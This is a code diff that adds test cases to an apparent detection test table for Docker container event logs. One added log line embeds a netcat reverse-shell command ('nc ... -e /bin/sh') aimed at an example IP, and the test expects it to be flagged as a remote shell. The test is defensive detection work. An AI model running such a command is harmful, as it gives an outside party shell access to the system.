@@ -87,6 +87,26 @@ LINES: list[tuple[str, str, tuple[Any, ...], list[str]]] = [
     (event("container", "exec_create: pg_isready"), EVENTS, (None, None, "container_exec_create", "unknown"), []),
     (event("container", "health_status: unhealthy"), EVENTS, (None, None, "container_health_status", "failure"), []),
     (event("container", "oom"), EVENTS, (None, None, "container_oom", "unknown"), ["Container out of memory"]),
+    (
+        "2026-03-01T03:11:20.123456789+01:00 container exec_create: sh -c echo (x) | nc 203.0.113.7 1 -e /bin/sh 4f1b "
+        "(execID=9a, image=example/app:1, name=app)",
+        EVENTS,
+        (None, None, "container_exec_create", "unknown"),
+        ["Download or remote shell run in a container"],
+    ),
+    (
+        "2026-03-01T03:11:20.123456789Z container die 4f1b (exitCode=137, image=example/app:1, name=app)",
+        EVENTS,
+        (None, None, "container_die", "failure"),
+        ["Container died with an error"],
+    ),
+    (
+        "2026-03-01T03:11:20.123456789Z network connect 4f1b (container=9a, name=bridge, type=bridge)",
+        EVENTS,
+        (None, None, "network_connect", "unknown"),
+        [],
+    ),
+    ("2026-03-01T03:11:20Z host1 app[1]: container die 4f1b (exitCode=1, name=app)", "/linux/syslog", NOTHING, []),
     (event("image", "pull"), EVENTS, (None, None, "image_pull", "unknown"), []),
     (event("network", "connect"), EVENTS, (None, None, "network_connect", "unknown"), []),
     (daemon("info", "Daemon has completed initialization"), DAEMON, NOTHING, []),
